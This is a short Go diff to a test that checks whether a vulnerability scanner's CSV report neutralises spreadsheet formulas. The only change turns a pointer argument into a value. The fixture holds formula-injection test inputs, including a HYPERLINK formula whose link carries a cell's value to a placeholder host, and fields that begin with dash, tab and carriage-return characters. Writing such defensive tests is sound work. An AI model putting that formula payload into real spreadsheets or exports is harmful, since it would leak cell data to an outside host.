@@ -27,7 +27,7 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 	img.Vulns = Compact([]contract.Finding{{VulnerabilityID: "CVE-2025-0001", PkgName: "-pkg", PkgVersion: "\t1.0",
 		FixedVersion: "\r2.0", Severity: "CRITICAL", Title: `=HYPERLINK("http://x.example/?"&A1,"click")`, CVSS: cvss(9.8)}}, nil)
 	led := in.Ledger.(mapLedger)
-	led.set(identity("docker.io/library/evil", &img.Vulns[0]), ts("2025-02-01T06:00:00Z"), sla.ChangeStillOpen)
+	led.set(identity("docker.io/library/evil", img.Vulns[0]), ts("2025-02-01T06:00:00Z"), sla.ChangeStillOpen)
 	in.Images = append(in.Images, img)
 	r := Build(in)
 
